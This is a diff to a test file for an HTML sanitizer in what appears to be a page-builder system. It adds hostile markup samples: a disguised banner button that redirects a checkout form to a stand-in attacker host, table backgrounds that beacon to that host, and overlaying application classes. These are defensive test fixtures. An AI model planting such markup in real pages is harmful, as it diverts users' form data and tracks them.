@@ -1,4 +1,4 @@
-import { banner, block, contentType, html, image, row, text } from '../fixtures/markup.ts';
+import { banner, block, contentType, escapeHtml, html, image, row, text } from '../fixtures/markup.ts';
 import { faq, tintup, video } from '../fixtures/markup-widgets.ts';
 
 /**
@@ -29,6 +29,11 @@ const forms: Intrusion[] = [
     name: 'button that sends another form elsewhere',
     html: `<button form="checkout" formaction="${evil}">Dalej</button>`,
     gone: ['button', '[formaction]'],
+  },
+  {
+    name: 'button that looks like that of a banner',
+    html: `<button class="pagebuilder-banner-button" form="checkout" formaction="${evil}" style="position:fixed">Dalej</button>`,
+    gone: ['button', '[form]', '[formaction]', '[style*="fixed"]'],
   },
   {
     name: 'label that presses a control of the page',
@@ -93,8 +98,8 @@ const beacons: Intrusion[] = [
   },
   {
     name: 'ground, list and border from elsewhere',
-    html: `<p style="background:url(${evil}/a)">a</p><ul style="list-style:url(${evil}/b)"><li style="border-image:url(${evil}/c) 1">b</li></ul><p style="background-image:image-set('${evil}/d' 1x)">c</p><p style="background-image:url('//evil.example/e')">d</p>`,
-    gone: ['[style*="evil"]'],
+    html: `<p style="background:url(${evil}/a)">a</p><ul style="list-style:url(${evil}/b)"><li style="border-image:url(${evil}/c) 1">b</li></ul><p style="background-image:image-set('${evil}/d' 1x)">c</p><p style="background-image:url('//evil.example/e')">d</p><table bgcolor="url(${evil}/f)" background="${evil}/g"><tbody><tr><td>e</td></tr></tbody></table>`,
+    gone: ['[style*="evil"]', '[background]'],
   },
   {
     name: 'ground from elsewhere that looks like a directive',
@@ -201,6 +206,16 @@ const disguises: Intrusion[] = [
     html: '<div><template shadowrootmode="open"><p>x</p></template></div><template><p>y</p></template>',
     gone: ['template', '[shadowrootmode]'],
   },
+  {
+    name: 'classes of the application, which may cover the page',
+    html: `<a href="${evil}" class="w-ui-15708642 x">a</a><p class="\tw-pb-1\nw-ui-2 _a1b2c30">b</p>`,
+    gone: ['.w-ui-15708642', '.w-pb-1', '.w-ui-2', '._a1b2c30'],
+  },
+  {
+    name: 'classes of the application on a content type',
+    html: row(text('a', { class: 'w-ui-15708642' }), { className: 'w-ui-15708642 _a1b2c30' }),
+    gone: ['.w-ui-15708642', '._a1b2c30'],
+  },
   { name: 'download under a false name', html: '<a href="/a.exe" download="faktura.pdf">x</a>', gone: ['[download]'] },
 ];
 
@@ -209,6 +224,7 @@ function inContentTypes({ name, html: markup, gone }: Intrusion): Intrusion[] {
   const places = {
     text: text(markup),
     'hand-written markup': html(markup),
+    'hand-written markup around a widget': contentType('html', {}, `${escapeHtml(markup)}<div>widget</div>`),
     'decoded markup': contentType('html', { 'data-decoded': 'true' }, markup),
     'a block': block(markup),
     'a banner': banner({ content: markup }),
